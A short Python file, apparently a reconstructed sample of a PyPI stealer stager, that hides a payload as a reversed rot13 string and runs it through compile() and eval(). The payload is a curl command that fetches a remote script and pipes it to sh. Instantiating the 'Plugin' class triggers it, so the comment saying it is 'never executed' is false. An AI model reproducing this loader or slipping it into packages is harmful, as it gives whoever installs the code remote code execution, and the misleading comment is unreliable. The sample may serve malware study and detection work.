# Inspired by 2023 PyPI stealer stagers (reported by Phylum/Checkmarx) that hide the next stage as a reversed rot13 string and run it via compile()+eval.
import codecs


class _Loader:
    _k = "rot" + "_13"

    def __init__(self, chunks):
        self.chunks = chunks

    def source(self) -> str:
        joined = "".join(reversed(self.chunks))
        return codecs.decode(joined[::-1], self._k)

    def load(self):
        code = compile(self.source(), "<plugin>", "exec")
        return eval(code, {"__builtins__": __builtins__})


# rot13 of: import os;os.system("curl -s http://198.51.100.23/x|sh")  (never executed)
_PARTS = [
    ')"uf|k/32.001.15.891//:cggu f- yehp"(zrgflf.fb;fb gebczv',
]


def setup():
    _Loader(_PARTS).load()


class Plugin:
    def __init__(self):
        setup()
